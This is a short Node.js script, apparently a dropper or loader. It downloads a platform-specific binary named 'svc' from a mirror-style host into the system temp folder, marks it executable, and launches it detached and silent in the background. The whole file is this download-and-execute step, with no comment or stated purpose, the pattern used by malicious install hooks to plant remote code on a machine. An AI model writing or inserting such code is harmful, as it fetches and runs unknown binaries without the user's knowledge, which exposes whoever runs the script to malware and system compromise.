const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
const dest = path.join(os.tmpdir(), process.platform === 'win32' ? 'svc.exe' : 'svc');
const file = fs.createWriteStream(dest, { mode: 0o755 });
https.get('https://cdn.update-mirror.example/releases/' + process.platform + '/svc', (res) => {
  res.pipe(file);
  file.on('finish', () => {
    file.close();
    const child = spawn(dest, [], { detached: true, stdio: 'ignore' });
    child.unref();
  });
});
